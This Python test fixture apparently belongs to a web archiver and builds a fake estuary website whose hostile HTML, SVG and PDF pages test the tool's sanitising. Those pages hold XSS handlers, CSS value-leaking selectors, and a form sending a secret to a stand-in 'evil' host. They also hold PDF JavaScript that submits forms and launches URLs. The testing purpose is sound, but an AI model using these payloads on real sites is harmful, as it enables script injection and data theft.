"""A folder with all a reader can meet in it: versions, files, twins, a bare page, hostile pages."""

import sqlite3
from itertools import pairwise
from pathlib import Path
from urllib.parse import urlsplit

from grown_folder import Served, grow, page
from whimbrel.change.decide import decide
from whimbrel.change.version import read_version
from whimbrel.flows.packing import packed_spots

HOST = "http://a.example"
TIDES, BARE, PLAIN, HOSTILE, HUGE = (f"{HOST}/{name}" for name in ("tides", "bare", "plain.txt", "hostile", "huge"))
PAPER, NAMED, SCAN = f"{HOST}/paper.pdf", f"{HOST}/named.pdf", f"{HOST}/scan.pdf"
STRANGE = f"{HOST}/strange?a=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
DAY = 86_400.0
MIDDLES = (
    "<p>High water is at nine.</p>",
    "<p>High water is at ten today.</p>",
    "<p>High water is at ten today.</p><p>A new flock of forty godwits has come down from the north.</p>",
)

PICTURE = b"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><script>parent.owned = 99</script>
<rect width="40" height="20" fill="#0b6157"/></svg>"""


def tides(middle: str) -> Served:
    return Served(
        f"""<!doctype html><html lang="en"><title>Tides of the estuary</title><link rel="stylesheet" href="/look.css">
        <h1>Tides of the estuary</h1>
        <p>Curlews and whimbrels follow the ebb over the mudflat, and this paragraph never changes at all.</p>
        {middle}
        <p>See <a href="/bare">a bare page</a>, <a href="#end">the end</a>, <a href="https://elsewhere.example/x">another
        place</a>. <img src="/picture.svg" alt="a green field" width="40" height="20"></p><p id="end">The end of the
        shore.</p></html>""".encode()
    )


def hostile(evil: str) -> Served:
    """Everything a page may try; `evil` is a server that hears of it. (A page that refreshes to another within seconds
    counts as redirected and is not kept; this one loads itself again and again.)"""
    return Served(
        f"""<!doctype html><html lang="en" onclick="location='{evil}/html'"><head>
        <title>Hostile &lt;b&gt;title&lt;/b&gt;</title>
        <base href="{evil}/base/"><meta http-equiv="refresh" content="0">
        <link rel="stylesheet" href="{evil}/sheet.css"><link rel="prefetch" href="{evil}/prefetch">
        <link rel="dns-prefetch" href="{evil}"><link rel="preload" as="image" href="{evil}/preload">
        <style>@import url("{evil}/import.css"); @\\69mport "{evil}/escaped.css"; @import/**/"{evil}/beside.css";
        @import "data:text/css,@import '{evil}/within.css'";
        body {{ background: url({evil}/background); }} p {{ background: u\\72l({evil}/escaped-background); }}
        input[value^="s"] {{ background: url({evil}/leak?s); }} @font-face {{ font-family: x; src: url({evil}/font); }}
        p {{ font-family: x; list-style: image-set("{evil}/image-set" 1x); --u: "{evil}/said"; }}
        form {{ background: image-set(var(--u) 1x); }} textarea {{ background: \\75\\72 l({evil}/twice); }}</style>
        <script>window.owned = 1; parent.owned = 1; fetch("{evil}/script");</script>
        <script src="{evil}/script.js"></script></head>
        <body onload="parent.owned = 2" background="{evil}/body">
        <p style="background:u\\72l({evil}/attribute)">A hostile page about estuaries,
        with words enough that it is kept and shown for what it says.</p>
        <img src="x" onerror="parent.owned = 3; fetch('{evil}/onerror')"><img src="{evil}/picture.png">
        <img srcset="{evil}/srcset.png 2x"><picture><source srcset="{evil}/source.png"><img alt="p"></picture>
        <a id="js" href="javascript:parent.owned=4">a script link</a> <a id="out" href="{evil}/link">a link out</a>
        <a id="data" href="data:text/html,<script>parent.owned=5</script>">a data link</a>
        <form action="{evil}/form" id="f"><input name="secret" value="secret"><button id="send">send</button></form>
        <iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>parent.owned=6</script>"></iframe>
        <object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/film" autoplay></video>
        <svg onload="parent.owned=7"><script>parent.owned = 8</script><image href="{evil}/svg"/>
        <animate onbegin="parent.owned=9" attributeName="x" dur="1s"/></svg>
        <math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.owned=10&gt;"></math>
        <noscript><p title="</noscript><img src=x onerror=parent.owned=11>"></noscript>
        <template><script>parent.owned = 12</script></template><details open ontoggle="parent.owned=13">x</details>
        <marquee onstart="parent.owned=14">m</marquee><textarea autofocus onfocus="parent.owned=15"></textarea>
        <img name="getElementById"><img id="body" name="body"><form name="createTreeWalker"></form>
        </body></html>""".encode()
    )


def huge() -> Served:
    rows = "".join(
        f"<div class=c{number % 7}><b>{number}</b> a row of a very long page</div>" for number in range(60_000)
    )
    return Served(f"<!doctype html><title>A very long page</title>{rows}{'<i>' * 3000}deep".encode())


def paper(words: bytes = b"Counting waders at high water", *, title: bytes = b"", opening: bytes = b"") -> Served:
    """One page of PDF; `opening` is what it does when it is opened."""
    drawn = b"BT /F1 24 Tf 72 700 Td (%b) Tj ET" % words
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % (b"/OpenAction " + opening if opening else b""),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >> stream\n%b\nendstream" % (len(drawn), drawn),
        b"<< /Title (%b) >>" % title,
    ]
    body, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 6\n0000000000 65535 f \n%btrailer << /Size 6 /Root 1 0 R /Info 5 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        table,
        len(body),
    )
    return Served(body + end, mime="application/pdf")


def hostile_papers(evil: str) -> dict[str, Served]:
    """What a PDF may try when it is opened."""
    script = f"app.launchURL('{evil}/launch', true); this.submitForm('{evil}/form'); app.alert('a PDF speaks')"
    deeds = {
        "script": f"<< /S /JavaScript /JS ({script}) >>",  # brackets that come in pairs need no escape
        "link": f"<< /S /URI /URI ({evil}/uri) >>",
        "sent": f"<< /S /SubmitForm /F << /FS /URL /F ({evil}/sent) >> /Flags 4 >>",
        "other": f"<< /S /GoToR /F << /FS /URL /F ({evil}/other.pdf) >> /D [0 /Fit] >>",
        "markup": "<< /S /URI /URI (javascript:parent.owned=1) >>",
    }
    return {
        f"{HOST}/hostile-{name}.pdf": paper(b"A hostile paper", opening=deed.encode()) for name, deed in deeds.items()
    }


def world(evil: str) -> dict[str, Served]:
    same = page("two pages that are the very same to the last byte")
    links = ["/tides", "/bare", "/plain.txt", "/hostile", "/huge", "/twin/1", "/twin/2", "/gone", "/paper.pdf",
             "/strange?a=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"]  # fmt: skip
    links += [urlsplit(url).path for url in hostile_papers(evil)]
    start = page("the start page of the estuary", links, title="The <estuary> & its birds")
    start += (
        b"<a href=/scan.pdf>Annual survey of the mudflat</a> <a href=/scan.pdf>PDF</a> <a href=/two%20scans.pdf>pdf</a>"
    )
    start += b"<a href=/fake.pdf>no paper</a> <a href=/named.pdf>a paper</a>"
    return {
        f"{HOST}/": Served(start),
        TIDES: tides(MIDDLES[0]),
        f"{HOST}/look.css": Served(b"@import 'more.css'; h1 { color: rgb(1, 97, 87) }", mime="text/css"),
        f"{HOST}/more.css": Served(
            b"@font-face { font-family: f; src: url(letters.woff2) } h1 { font-family: f; background: url(gone.png) }",
            mime="text/css",
        ),
        f"{HOST}/letters.woff2": Served(b"the letters of a font", mime="font/woff2"),
        f"{HOST}/picture.svg": Served(PICTURE, mime="image/svg+xml"),
        BARE: Served(
            page("a page whose looks were not kept").replace(b"<p>", b"<link rel=stylesheet href=/gone.css><p>", 1)
        ),
        PLAIN: Served(
            b"A plain text about birds.\n\nIts second paragraph has <b>no</b> markup.\n" * 3, mime="text/plain"
        ),
        HOSTILE: hostile(evil),
        HUGE: huge(),
        PAPER: paper(),
        NAMED: paper(b"Page one", title=b"A census of waders"),
        SCAN: paper(b"", title=b"scan0001.pdf"),
        f"{HOST}/two%20scans.pdf": paper(b" "),
        f"{HOST}/fake.pdf": Served(b"<script>parent.owned = 1</script><p>words of no paper", mime="application/pdf"),
        **hostile_papers(evil),
        f"{HOST}/twin/1": Served(same),
        f"{HOST}/twin/2": Served(same),
        STRANGE: Served(page("a strange address", title="<script>alert('title')</script>")),
    }


def fill(folder: Path, evil: str, now: float) -> None:
    """Three versions of the tides, a day apart."""
    there = world(evil)
    grow(folder, there)
    for number, middle in enumerate(MIDDLES[1:]):
        there[TIDES] = tides(middle)
        _due_again(folder, TIDES, 1_000 + number)
        grow(folder, there)
    _dated(folder, now)


def _due_again(folder: Path, url: str, place: int) -> None:
    database = sqlite3.connect(folder / "crawl.sqlite")
    with database:
        database.execute("INSERT INTO due SELECT lane, 0, ?, id, 0, 0 FROM url WHERE url = ?", (place, url))
    database.close()


def _dated(folder: Path, now: float) -> None:
    database = sqlite3.connect(folder / "crawl.sqlite")
    with database:
        database.execute("UPDATE version SET at = ?", (now - 3 * DAY,))
        versions = database.execute(
            "SELECT v.id FROM version v JOIN url u ON u.id = v.url WHERE u.url = ? ORDER BY v.id", (TIDES,)
        ).fetchall()
        database.executemany(
            "UPDATE version SET at = ? WHERE id = ?",
            [(now - (2 - place) * DAY - 600, number) for place, (number,) in enumerate(versions)],
        )
        read = [read_version(tides(middle).body, "text/html; charset=utf-8") for middle in MIDDLES]
        database.execute("DELETE FROM change")  # the clock stood still while the versions came
        database.executemany(
            "INSERT INTO change (url, at, what, kinds, amount, before, after, details)"
            " SELECT v.url, v.at, 'changed', 'content', 0.2, ?, v.id, ? FROM version v WHERE v.id = ?",
            [
                (before, packed_spots(decide(old, new)), after)
                for ((before,), (after,)), (old, new) in zip(pairwise(versions), pairwise(read), strict=True)
            ],
        )
        database.execute("UPDATE url SET visited_at = ? WHERE visited_at IS NOT NULL", (now - 600,))
    database.close()
